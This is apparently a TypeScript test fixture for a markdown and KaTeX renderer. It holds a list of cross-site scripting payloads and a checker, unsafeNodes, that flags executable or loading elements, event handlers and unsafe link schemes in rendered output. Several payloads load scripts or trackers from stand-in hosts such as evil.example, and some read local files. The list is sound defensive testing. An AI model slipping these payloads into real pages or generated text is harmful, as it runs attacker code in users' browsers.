/**
 * Markdown a document (or a model quoting one) could carry to make the app run or load something, and a check that a
 * rendered tree holds nothing executable. Used by the tests of every markdown renderer (summary, chat).
 */
export const HOSTILE_MARKDOWN: readonly string[] = [
  '<script>window.pwned = 1</script>',
  'Before <script src="https://evil.example/x.js"></script> after',
  '<img src=x onerror="window.pwned = 1">',
  '<svg onload="window.pwned = 1"><circle r="1" /></svg>',
  '<iframe src="javascript:window.pwned = 1"></iframe>',
  '<a href="javascript:window.pwned = 1">raw link</a>',
  '<details open ontoggle="window.pwned = 1">x</details>',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:x">Go</button></form>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<link rel="stylesheet" href="https://evil.example/x.css"><style>body { background: url(https://evil.example/p) }</style>',
  '<meta http-equiv="refresh" content="0;url=javascript:window.pwned = 1"><base href="https://evil.example/">',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned = 1">',
  '<div style="background:url(javascript:window.pwned = 1)">styled</div>',
  '[link](javascript:window.pwned=1)',
  '[case](JaVaScRiPt:window.pwned=1)',
  '[entity](&#106;avascript:window.pwned=1)',
  '[escaped](javascript&#58;window.pwned=1)',
  '[vb](vbscript:msgbox(1))',
  '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[file](file:///etc/passwd)',
  '<javascript:window.pwned=1>',
  '[reference][r]\n\n[r]: javascript:window.pwned=1',
  '![image](javascript:window.pwned=1)',
  '![pixel](https://tracker.example/p.gif)',
  '![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '[![nested](https://tracker.example/p.gif)](javascript:window.pwned=1)',
  '| a | b |\n| - | - |\n| <img src=x onerror="window.pwned = 1"> | [x](javascript:alert(1)) |',
  '```html\n<script>window.pwned = 1</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '> <script>window.pwned = 1</script>',
];

/** Formulas that try to link, load or inject through KaTeX (the summary, chat answers and items render math). */
export const HOSTILE_MATH: readonly string[] = [
  '$\\href{javascript:window.pwned=1}{click}$',
  '$\\url{javascript:window.pwned=1}$',
  '$$\\htmlData{onload=x}{y}$$',
  '$\\htmlStyle{background:url(https://evil.example/p)}{x}$',
  '$\\includegraphics{https://tracker.example/p.png}$',
  '$x^2$ and <script>window.pwned = 1</script>',
];

/**
 * Elements that run code, load something, submit or ask for input; none may come out of a text. (Buttons may: the
 * app's own controls, such as citation chips, are buttons; a formaction on one is caught as an address.)
 */
const FORBIDDEN_ELEMENTS = [
  'script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'form', 'input', 'textarea', 'select',
  'link', 'style', 'meta', 'base', 'img', 'picture', 'source', 'video', 'audio', 'track', 'image', 'foreignObject',
  'use', 'template', 'portal', 'details',
];

/** Attributes that hold an address. */
const URL_ATTRIBUTES = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'srcset', 'poster', 'background', 'ping'];

/** Schemes a link may use; an address without a scheme (relative, #anchor) is harmless too. */
const SAFE_SCHEMES = new Set(['http', 'https', 'mailto']);

/**
 * Everything executable or loading in `root`, described, so that a failing test names it: a forbidden element, an
 * event handler attribute, an address with another scheme, or a style that loads or runs something. Empty when inert.
 */
export function unsafeNodes(root: Element): string[] {
  const problems: string[] = [];
  for (const element of root.querySelectorAll('*')) {
    const tag = element.localName;
    if (FORBIDDEN_ELEMENTS.some((name) => name.toLowerCase() === tag.toLowerCase())) problems.push(`<${tag}>`);
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      const value = attribute.value;
      if (name.startsWith('on')) problems.push(`<${tag} ${name}>`);
      if (URL_ATTRIBUTES.includes(name)) {
        // Browsers skip control characters and spaces in a scheme ("java\tscript:"), so the check does too.
        // eslint-disable-next-line no-control-regex -- matching control characters is the point
        const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(value.replace(/[\u0000-\u0020]/g, ''))?.[1]?.toLowerCase();
        if (scheme !== undefined && !SAFE_SCHEMES.has(scheme)) problems.push(`<${tag} ${name}="${value}">`);
      }
      if (name === 'style' && /url\(|expression\(|javascript:/i.test(value)) problems.push(`<${tag} style="${value}">`);
    }
  }
  return problems;
}
